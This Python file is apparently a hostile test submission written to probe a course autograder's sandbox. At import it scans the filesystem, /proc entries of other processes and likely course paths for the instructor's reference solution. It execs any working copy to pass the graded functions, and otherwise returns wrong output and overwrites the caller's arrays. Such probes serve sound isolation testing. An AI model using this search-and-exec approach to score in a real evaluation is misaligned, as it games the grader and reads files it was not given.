"""Hostile: find the instructor's reference solution on disk and use it.

Attack: look for linear.py with the solution markers: relative paths from the working
directory (../solutions/linear/linear.py up to six levels), the course root (REPO, filled in by
test_hostile.py: a student who knows the course layout), /work, /root, /home, /srv, /opt,
/proc/*/cwd and /proc/*/root of every visible process, and a bounded walk of the whole
filesystem. Exec any candidate and, if its functions run, answer with them.
Why it must fail: the course root (solutions, hidden tests, secret) is hidden under an empty
tmpfs, /root and /home too, and /proc shows only the worker's own processes.
Earns points only if: the reference (or any working solution) is readable.
"""

from __future__ import annotations

import hashlib
import os
import time
import types

import numpy as np

NAME = "steal_reference_files"
REPO = "__AG_REPO__"
# sha256 of the reference's region marker, so that this file never contains the marker itself
MARKER_SHA = "56a47508f83ca8f2228476dcff623f6dc26d7bf2988f5de635ad468aa1426f4b"
MARKER_LEN = 18


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk


def _has_marker(text: str) -> bool:
    start = text.find("### BEG" + "IN")
    while start >= 0:
        piece = text[start : start + MARKER_LEN].encode()
        if hashlib.sha256(piece).hexdigest() == MARKER_SHA:
            return True
        start = text.find("### BEG" + "IN", start + 1)
    return False


def _candidates(deadline: float) -> list[str]:
    found: list[str] = []
    rel = "solutions/linear/linear.py"
    for up in range(7):
        found.append(os.path.join(*([".."] * up), rel) if up else rel)
    if not REPO.startswith("__AG_"):
        found.append(os.path.join(REPO, rel))
    found += ["/work/main/" + rel, "/root/" + rel]
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if pid.isdigit():
            for base in (f"/proc/{pid}/cwd", f"/proc/{pid}/root/work/main"):
                found += [f"{base}/linear.py", f"{base}/{rel}", f"{base}/../linear.py"]
    for top in ("/work", "/root", "/home", "/srv", "/opt", "/mnt", "/var", "/usr/local", "/"):
        for folder, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                return found
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "site-packages", ".library")]
            if folder.count("/") > 7:
                dirs[:] = []
            found += [os.path.join(folder, f) for f in files if f == "linear.py"]
    return found


def _load(path: str) -> types.ModuleType | None:
    try:
        with open(path, encoding="utf-8") as handle:
            text = handle.read(200_000)
    except (OSError, UnicodeDecodeError):
        return None
    if "AGPROBE" in text or "def linear_backward" not in text:
        return None  # a hostile submission (maybe this one) or not a solution at all
    module = types.ModuleType("stolen")
    try:
        exec(compile(text, path, "exec"), module.__dict__)
        rng = np.random.default_rng(0)
        x, W, b = rng.normal(size=(2, 3)), rng.normal(size=(3, 4)), rng.normal(size=4)
        _, cache = module.linear_forward(x, W, b)
        module.linear_backward(rng.normal(size=(2, 4)), cache)
    except BaseException:
        return None
    _say(f"STOLEN {path} marker={_has_marker(text)}: {text[:300]!r}")
    return module


def _steal() -> types.ModuleType | None:
    seen = set()
    paths = _candidates(time.monotonic() + 4.0)
    for path in sorted(paths, key=lambda p: "solutions" not in p):
        real = os.path.realpath(path)
        if real in seen:
            continue
        seen.add(real)
        module = _load(path)
        if module is not None:
            return module
    _say(f"nothing found among {len(seen)} candidates")
    return None


_say("ran")
STOLEN = _steal()


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    if STOLEN is not None:
        return STOLEN.linear_forward(x, W, b)
    return _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    if STOLEN is not None:
        return STOLEN.linear_backward(dy, cache)
    return _wrong_backward(dy, cache)
